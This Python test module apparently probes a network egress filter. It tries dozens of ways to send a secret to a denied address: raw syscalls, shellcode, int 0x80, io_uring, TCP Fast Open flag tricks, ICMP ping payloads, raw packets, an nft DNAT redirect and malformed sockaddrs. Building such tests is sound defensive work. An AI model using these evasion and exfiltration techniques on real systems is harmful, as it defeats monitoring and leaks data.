"""System calls past Python: libc by ctypes, raw numbers, machine code, io_uring, 32-bit calls, Fast Open, odd protocols."""

from __future__ import annotations

import ctypes
import os
import socket
import struct
import subprocess
from pathlib import Path

import machine
import world
from machine import LIBC, page, sockaddr
from table import ATTEMPTS, attempt

CONNECT, SENDTO, SENDMSG, SENDMMSG, SOCKET = 42, 44, 46, 307, 41
FASTOPEN = 0x20000000
X86 = "machine:x86_64"
TO4, TO6 = sockaddr(world.DENIED4, 80), sockaddr(world.DENIED6, 80)
UDP4 = sockaddr(world.DENIED4, world.UDP)


def checked(result):
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return result


def finish(fd, data):
    with socket.socket(fileno=fd) as opened:
        opened.settimeout(2)
        opened.sendall(data)
        opened.recv(100)


def tcp(family=socket.AF_INET, protocol=0):
    return socket.socket(family, socket.SOCK_STREAM, protocol)


@attempt("calls", quick=True)
def ctypes_connect(aim):
    fd = tcp().detach()
    checked(LIBC.connect(fd, TO4, 16))
    finish(fd, aim.request())


@attempt("calls", "feature:ipv6")
def ctypes_connect_v6(aim):
    fd = tcp(socket.AF_INET6).detach()
    checked(LIBC.connect(fd, TO6, 28))
    finish(fd, aim.request())


@attempt("calls")
def ctypes_everything(aim):
    """No Python socket at all."""
    fd = checked(LIBC.socket(2, 1, 0))
    checked(LIBC.connect(fd, TO4, 16))
    checked(LIBC.write(fd, aim.request(), len(aim.request())))
    LIBC.read(fd, ctypes.create_string_buffer(100), 100)


@attempt("calls", before=lambda aim: (LIBC.connect, LIBC.socket, LIBC.send))
def ctypes_saved_pointers(aim, saved):
    connect, opened, send = saved
    fd = opened(2, 1, 0)
    checked(connect(fd, TO4, 16))
    send(fd, aim.request(), len(aim.request()), 0)
    socket.socket(fileno=fd).recv(10)


@attempt("calls")
def ctypes_pydll(aim):
    fd = tcp().detach()
    checked(ctypes.PyDLL(None).connect(fd, TO4, 16))
    finish(fd, aim.request())


@attempt("calls", X86)
def syscall_by_number(aim):
    fd = checked(LIBC.syscall(SOCKET, 2, 1, 0))
    checked(LIBC.syscall(CONNECT, fd, TO4, 16))
    finish(fd, aim.request())


@attempt("calls", X86, quick=True)
def machine_code(aim):
    fd = machine.direct_call(SOCKET, 2, 1, 0)
    machine.direct_call(CONNECT, fd, page(TO4), 16)
    finish(fd, aim.request())


@attempt("calls", X86, "module:cffi")
def cffi_connect(aim):
    import cffi

    ffi = cffi.FFI()
    ffi.cdef("int connect(int, const char *, unsigned);")
    fd = tcp().detach()
    ffi.dlopen(None).connect(fd, TO4, 16)
    finish(fd, aim.request())


@attempt("calls", "feature:int80", alone=True)
def int80_connect(aim):
    fd = tcp().detach()
    machine.compat_call(362, fd, page(TO4), 16)
    finish(fd, aim.request())


@attempt("calls", "feature:int80", alone=True)
def int80_socketcall(aim):
    name = page(TO4)
    arguments = page(struct.pack("=III", 2, 1, 0))
    fd = machine.compat_call(102, 1, arguments)
    machine.compat_call(102, 3, page(struct.pack("=III", fd, name, 16)))
    finish(fd, aim.request())


@attempt("calls", "feature:int80", alone=True)
def int80_sendto(aim):
    fd = socket.socket(socket.AF_INET, socket.SOCK_DGRAM).detach()
    text = page(aim.secret)
    machine.compat_call(102, 11, page(struct.pack("=IIIIII", fd, text, len(aim.secret), 0, page(UDP4), 16)))


@attempt("calls", "feature:int80", quick=True)
def int80_in_a_fork(aim):
    child = os.fork()
    if child == 0:
        try:
            int80_connect(aim)
        finally:
            os._exit(0)
    os.waitpid(child, 0)


@attempt("calls", "feature:int80")
def program_of_32_bits(aim):
    machine.run_program(machine.tiny_elf32(world.DENIED4, 80, aim.request()), "old")


@attempt("calls", X86)
def program_of_one_page(aim):
    machine.run_program(machine.tiny_elf64(world.DENIED4, 80, aim.request()), "new")


@attempt("calls", "feature:x32")
def x32_connect(aim):
    fd = tcp().detach()
    checked(LIBC.syscall(0x40000000 + CONNECT, fd, TO4, 16))
    finish(fd, aim.request())


@attempt("calls", "feature:io_uring", X86, quick=True)
def io_uring_connect(aim):
    fd = tcp().detach()
    machine.Ring().submit(16, fd, page(TO4), 0, offset=16)
    finish(fd, aim.request())


@attempt("calls", "feature:io_uring", X86)
def io_uring_all(aim):
    """Socket, connect and send by the ring alone."""
    ring = machine.Ring()
    fd = ring.submit(45, 2, 0, 0, offset=1)
    ring.submit(16, fd, page(TO4), 0, offset=16)
    finish(fd, aim.request())


@attempt("calls", "feature:io_uring", X86)
def io_uring_with_a_kernel_thread(aim):
    fd = tcp().detach()
    ring = machine.Ring(flags=2)
    ring.submit(16, fd, page(TO4), 0, offset=16)
    import time

    time.sleep(0.05)
    finish(fd, aim.request())


@attempt("calls", "feature:io_uring", X86)
def io_uring_sendmsg(aim):
    fd = socket.socket(socket.AF_INET, socket.SOCK_DGRAM).detach()
    header, _keep = message(UDP4, aim.secret)
    machine.Ring().submit(9, fd, ctypes.addressof(header), 1)


def _ring_before(aim):
    return machine.Ring()


@attempt("calls", "feature:io_uring", X86, before=_ring_before, alone=True)
def io_uring_made_before(aim, ring):
    fd = tcp().detach()
    ring.submit(16, fd, page(TO4), 0, offset=16)
    finish(fd, aim.request())


# ------------------------------------------------------------------------------------------------------------ fast open


class IoVec(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


class MsgHdr(ctypes.Structure):
    _fields_ = (
        ("name", ctypes.c_void_p), ("namelen", ctypes.c_uint32), ("iov", ctypes.c_void_p), ("iovlen", ctypes.c_size_t),
        ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t), ("flags", ctypes.c_int), ("unused", ctypes.c_uint32),
    )  # fmt: skip


def message(name, data):
    """A msghdr for sendmsg and sendmmsg, and what must stay alive with it."""
    text, address = ctypes.create_string_buffer(data, len(data)), ctypes.create_string_buffer(name, len(name))
    vector = IoVec(ctypes.addressof(text), len(data))
    header = MsgHdr(ctypes.addressof(address), len(name), ctypes.addressof(vector), 1, None, 0, 0, 0)
    return header, (text, address, vector)


def _tfo_sendto(opened, to, data):
    opened.sendto(data, FASTOPEN, to)


def _tfo_sendmsg(opened, to, data):
    opened.sendmsg([data], [], FASTOPEN, to)


def _tfo_option(opened, to, data):
    opened.setsockopt(socket.IPPROTO_TCP, 30, 1)
    opened.connect(to)
    opened.sendall(data)


def _tfo_ctypes_sendto(opened, to, data):
    raw = sockaddr(*to[:2])
    checked(LIBC.sendto(opened.fileno(), data, len(data), FASTOPEN, raw, len(raw)))


def _tfo_ctypes_sendmsg(opened, to, data):
    header, _keep = message(sockaddr(*to[:2]), data)
    checked(LIBC.sendmsg(opened.fileno(), ctypes.byref(header), FASTOPEN))


def _tfo_sendmmsg(opened, to, data):
    header, _keep = message(sockaddr(*to[:2]), data)
    block = ctypes.create_string_buffer(bytes(header) + b"\0" * 8, 64)
    checked(LIBC.sendmmsg(opened.fileno(), block, 1, FASTOPEN))


def _tfo_high_bits(opened, to, data):
    """The kernel takes flags as 32 bits; a filter that compares 64 sees another number."""
    raw = sockaddr(*to[:2])
    sent = LIBC.syscall(ctypes.c_long(SENDTO), ctypes.c_long(opened.fileno()), data, ctypes.c_long(len(data)),
                        ctypes.c_ulong((1 << 40) | FASTOPEN), raw, ctypes.c_long(len(raw)))  # fmt: skip
    checked(sent)


def _tfo_more_flags(opened, to, data):
    opened.sendto(data, FASTOPEN | socket.MSG_NOSIGNAL | socket.MSG_DONTWAIT, to)


def _tfo_after_unspec(opened, to, data):
    LIBC.connect(opened.fileno(), b"\0" * 16, 16)
    opened.sendto(data, FASTOPEN, to)


FAST = (
    _tfo_sendto,
    _tfo_sendmsg,
    _tfo_option,
    _tfo_ctypes_sendto,
    _tfo_ctypes_sendmsg,
    _tfo_sendmmsg,
    _tfo_high_bits,
    _tfo_more_flags,
    _tfo_after_unspec,
)
KINDS = {
    "v4": (socket.AF_INET, 0, (world.DENIED4, 80)),
    "v6": (socket.AF_INET6, 0, (world.DENIED6, 80)),
    "mptcp": (socket.AF_INET, 262, (world.DENIED4, 80)),
}


def _fast(aim, way, family, protocol, to):
    with socket.socket(family, socket.SOCK_STREAM, protocol) as opened:
        opened.setsockopt(socket.SOL_SOCKET, socket.SO_RCVTIMEO, struct.pack("=qq", 2, 0))
        way(opened, to, aim.request())
        opened.recv(100)


for _way in FAST:
    for _kind, _with in KINDS.items():
        if _kind == "mptcp" and _way in {_tfo_option, _tfo_after_unspec}:
            continue
        ATTEMPTS.add(
            "fast open",
            f"{_way.__name__.removeprefix('_tfo_').replace('_', ' ')}, {_kind}",
            lambda aim, way=_way, given=_with: _fast(aim, way, *given),
            needs=tuple(["feature:mptcp"] if _kind == "mptcp" else ["feature:ipv6"] if _kind == "v6" else []),
            quick=_kind == "v4" and _way in {_tfo_sendto, _tfo_sendmsg},
        )


# ------------------------------------------------------------------------------------------------- families and protocols


@attempt("families", "feature:mptcp", quick=True)
def mptcp_connect(aim):
    opened = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
    opened.connect((world.DENIED4, 80))
    finish(opened.detach(), aim.request())


@attempt("families", "feature:mptcp", "feature:ipv6")
def mptcp_connect_v6(aim):
    opened = socket.socket(socket.AF_INET6, socket.SOCK_STREAM, 262)
    opened.connect((world.DENIED6, 80))
    finish(opened.detach(), aim.request())


@attempt("families", "feature:mptcp")
def mptcp_by_ctypes(aim):
    fd = checked(LIBC.socket(2, 1, 262))
    checked(LIBC.connect(fd, TO4, 16))
    finish(fd, aim.request())


@attempt("families", "feature:sctp")
def sctp_connect(aim):
    opened = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132)
    opened.connect((world.DENIED4, 80))
    opened.send(aim.secret)


@attempt("families", "feature:sctp")
def sctp_connectx(aim):
    opened = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132)
    opened.setsockopt(132, 110, TO4)
    opened.send(aim.secret)


@attempt("families", "feature:dccp")
def dccp_connect(aim):
    opened = socket.socket(socket.AF_INET, 6, 33)
    opened.connect((world.DENIED4, 80))
    opened.send(aim.secret)


@attempt("families", "feature:smc")
def smc_falls_back_to_tcp(aim):
    opened = socket.socket(43, socket.SOCK_STREAM, 0)
    checked(LIBC.connect(opened.fileno(), TO4, 16))
    finish(opened.detach(), aim.request())


@attempt("families", "feature:vsock")
def vsock_local(aim):
    opened = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
    opened.connect((1, 9000))
    opened.send(aim.secret)


@attempt("families", "feature:udplite")
def udplite(aim):
    opened = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)
    opened.sendto(aim.secret, (world.DENIED4, world.UDP))


@attempt("families", quick=True)
def ping(aim):
    """An echo request carries what one writes into it, and needs no right."""
    opened = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    opened.sendto(b"\x08\0\0\0\0\1\0\1" + aim.secret, (world.DENIED4, 0))


@attempt("families", "feature:ipv6")
def ping_v6(aim):
    opened = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6)
    opened.sendto(b"\x80\0\0\0\0\1\0\1" + aim.secret, (world.DENIED6, 0))


@attempt("families", "root")
def raw_icmp(aim):
    opened = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    opened.sendto(b"\x08\0\0\0\0\1\0\1" + aim.secret, (world.DENIED4, 0))


def _udp_packet(data):
    udp = struct.pack(">HHHH", 4444, world.UDP, 8 + len(data), 0) + data
    head = struct.pack(
        ">BBHHHBBH4s4s",
        0x45,
        0,
        20 + len(udp),
        1,
        0,
        64,
        17,
        0,
        socket.inet_aton(world.ALLOWED4),
        socket.inet_aton(world.DENIED4),
    )
    total = sum(struct.unpack(">10H", head))
    total = (total & 0xFFFF) + (total >> 16)
    return head[:10] + struct.pack(">H", ~total & 0xFFFF) + head[12:] + udp


@attempt("families", "root")
def raw_ip(aim):
    opened = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    opened.sendto(_udp_packet(aim.secret), (world.DENIED4, 0))


@attempt("families", "root")
def packet(aim):
    opened = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    opened.bind(("lo", 0x0800))
    opened.send(b"\0" * 12 + b"\x08\0" + _udp_packet(aim.secret))


@attempt("families", "root")
def packet_cooked(aim):
    opened = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
    opened.sendto(_udp_packet(aim.secret), ("lo", 0x0800, 0, 0, b"\0" * 6))


@attempt("families", "root", "program:nft")
def translation_rule(aim):
    """Root writes a rule that sends an allowed address elsewhere."""
    chain = f"chain c {{\n type nat hook output priority -100;\n ip daddr {world.PARTNER4} dnat to {world.DENIED4}\n}}"
    rules = f"table ip t {{\n{chain}\n}}"
    try:
        subprocess.run(["nft", "-f", "-"], input=rules.encode(), check=False)
        opened = socket.create_connection(("shop.partner.test", 80), 2)
        finish(opened.detach(), aim.request("shop.partner.test"))
    finally:
        subprocess.run(["nft", "delete", "table", "ip", "t"], check=False)


# ----------------------------------------------------------------------------------------------------- malformed addresses

MALFORMED = {
    "longer than it is": (TO4 + b"\0" * 100, 116),
    "v4 in a v6 length": (TO4 + b"\0" * 12, 28),
    "family unspecified": (b"\0\0" + TO4[2:], 16),
    "zero bytes of padding set": (TO4[:8] + b"\xff" * 8, 16),
}


def _malformed(aim, name, length):
    opened = tcp()
    LIBC.connect(opened.fileno(), name, length)
    finish(opened.detach(), aim.request())


for _what, _with in MALFORMED.items():
    if _what != "family unspecified":
        ATTEMPTS.add("calls", f"sockaddr {_what}", lambda aim, given=_with: _malformed(aim, *given))


@attempt("calls")
def sockaddr_v4_on_a_v6_socket(aim):
    opened = tcp(socket.AF_INET6)
    mapped = sockaddr(world.MAPPED, 80)
    checked(LIBC.connect(opened.fileno(), mapped, 28))
    finish(opened.detach(), aim.request())


@attempt("calls")
def sockaddr_short_v6(aim):
    """24 bytes are enough for the kernel: the scope may be missing."""
    opened = tcp(socket.AF_INET6)
    checked(LIBC.connect(opened.fileno(), TO6, 24))
    finish(opened.detach(), aim.request())


@attempt("calls")
def sockaddr_at_the_end_of_a_page(aim):
    start = machine.page(low=False)
    second = machine.page(low=False)
    LIBC.munmap(ctypes.c_void_p(second), 4096)
    ctypes.memmove(start + 4080, TO4, 16)
    opened = tcp()
    checked(LIBC.connect(opened.fileno(), ctypes.c_void_p(start + 4080), 16))
    finish(opened.detach(), aim.request())


@attempt("calls")
def sockaddr_in_a_file(aim):
    import mmap

    path = Path(aim.scratch, "name")
    path.write_bytes(TO4.ljust(4096, b"\0"))
    with path.open("r+b") as file:
        mapped = mmap.mmap(file.fileno(), 4096)
    opened = tcp()
    checked(LIBC.connect(opened.fileno(), (ctypes.c_char * 16).from_buffer(mapped), 16))
    finish(opened.detach(), aim.request())


@attempt("calls")
def sockaddr_only_executable(aim):
    """Memory that a reader of /proc/PID/mem may see and the kernel may not, or the other way round."""
    import mmap

    name = machine.page(TO4, low=False)
    LIBC.mprotect(ctypes.c_void_p(name), 4096, mmap.PROT_READ | mmap.PROT_EXEC)
    opened = tcp()
    checked(LIBC.connect(opened.fileno(), ctypes.c_void_p(name), 16))
    finish(opened.detach(), aim.request())


@attempt("calls")
def libresolv_then_connect(aim):
    fd = tcp().detach()
    LIBC.getaddrinfo(b"denied.test", b"80", None, ctypes.byref(ctypes.c_void_p()))
    checked(LIBC.connect(fd, TO4, 16))
    finish(fd, aim.request())


@attempt("calls")
def openssl_bio(aim):
    library = next((name for name in ("libcrypto.so.3", "libcrypto.so.1.1") if _loads(name)), None)
    assert library, "no libcrypto"
    crypto = ctypes.CDLL(library)
    crypto.BIO_new_connect.restype = ctypes.c_void_p
    bio = ctypes.c_void_p(crypto.BIO_new_connect(f"{world.DENIED4}:80".encode()))
    crypto.BIO_write(bio, aim.request(), len(aim.request()))
    crypto.BIO_read(bio, ctypes.create_string_buffer(100), 100)


def _loads(name):
    try:
        ctypes.CDLL(name)
    except OSError:
        return False
    return True


@attempt("calls", "program:gcc")
def compiled_library(aim):
    source = """
    #include <sys/socket.h>
    #include <netinet/in.h>
    #include <arpa/inet.h>
    #include <unistd.h>
    int out(const char *ip, int port, const char *text, int length) {
        struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port)};
        inet_pton(AF_INET, ip, &to.sin_addr);
        int fd = socket(AF_INET, SOCK_STREAM, 0);
        if (connect(fd, (struct sockaddr *)&to, sizeof to)) return -1;
        int sent = write(fd, text, length); char back[10]; read(fd, back, 10); close(fd); return sent;
    }
    """
    path, library = Path(aim.scratch, "out.c"), Path(aim.scratch, "out.so")
    path.write_text(source, encoding="ascii")
    subprocess.run(["gcc", "-shared", "-fPIC", "-w", "-o", library, path], check=True)
    checked(ctypes.CDLL(str(library)).out(world.DENIED4.encode(), 80, aim.request(), len(aim.request())))


@attempt("calls", X86)
def vfork_child(aim):
    """A child that shares our memory: what it connects is ours too, by way of the shared table of descriptors."""
    fd = tcp().detach()
    clone_files, clone_vm = 0x400, 0x100
    stack = machine.page(low=False) + 4096 - 16
    call = machine.page(
        b"\xb8\x2a\0\0\0\xbf"
        + struct.pack("<I", fd)
        + b"\x48\xbe"
        + struct.pack("<Q", page(TO4))
        + b"\xba\x10\0\0\0\x0f\x05\xb8\x3c\0\0\0\x31\xff\x0f\x05"
    )
    child = LIBC.clone(ctypes.c_void_p(call), ctypes.c_void_p(stack), clone_files | clone_vm | 17, None)
    checked(child)
    os.waitpid(child, 0)
    finish(fd, aim.request())
